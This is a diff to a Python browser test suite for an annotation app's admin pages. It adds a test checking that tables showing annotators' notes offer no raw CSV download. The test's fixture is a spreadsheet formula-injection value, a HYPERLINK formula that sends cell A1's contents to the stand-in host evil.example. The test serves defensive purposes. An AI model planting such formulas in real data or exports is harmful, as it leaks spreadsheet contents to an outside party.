@@ -73,6 +73,7 @@ BUTTONS = (
     ("Response 2 much better", -3),
 )
 NOTE = "Rationale or note (optional)"
+FORMULA_NOTE = '=HYPERLINK("https://evil.example/?leak="&A1,"broken item")'
 
 
 def for_model_a(value_for_left: int, shown_order: str) -> int:
@@ -572,6 +573,32 @@ def test_the_admin_reads_the_report(app: DemoApp, tab, store: Store) -> None:
     assert set(_model_names(b"\n".join(tab.frames))) >= set(DEMO_MODELS)
     screenshot(page, "report-page", height=3200)
     assert tab.dialogs == []
+
+
+def test_the_admins_tables_offer_no_raw_csv_of_what_others_wrote(
+    app: DemoApp, tab, store: Store
+) -> None:
+    # an annotator's flag note that a spreadsheet would run as a formula
+    who = store.add_annotator("noted")
+    comparison = store.comparisons_frame("demo")["comparison_id"].iloc[-1]
+    store.record_pass(int(comparison), who.id, reason="broken", note=FORMULA_NOTE)
+    page = tab.page
+    page.goto(app.link(ADMIN, "progress"))
+    # the flagged comparisons' table, the third on the page, drawn
+    page.get_by_test_id("stDataFrame").nth(2).wait_for(timeout=60_000)
+    settle(page)
+    assert FORMULA_NOTE.encode() in b"\n".join(tab.frames)  # the note is in a table on the page
+    boxes = page.get_by_test_id("stElementContainer").filter(has=page.get_by_test_id("stDataFrame"))
+    assert boxes.count() >= 3
+    for i in range(boxes.count()):
+        box = boxes.nth(i)
+        box.scroll_into_view_if_needed()
+        box.get_by_test_id("stDataFrame").hover()
+        # the table's toolbar shows on hover, without a CSV download (pairwise's own exports
+        # write CSV with such cells made inert; Streamlit's would write them as they are)
+        toolbar = box.get_by_test_id("stElementToolbar")
+        toolbar.get_by_role("button", name="Search").wait_for()
+        assert toolbar.get_by_role("button", name="Download as CSV").count() == 0
 
 
 def test_first_start_seeds_the_demo_in_local_demo_mode(tmp_path: Path, new_db, tab) -> None:
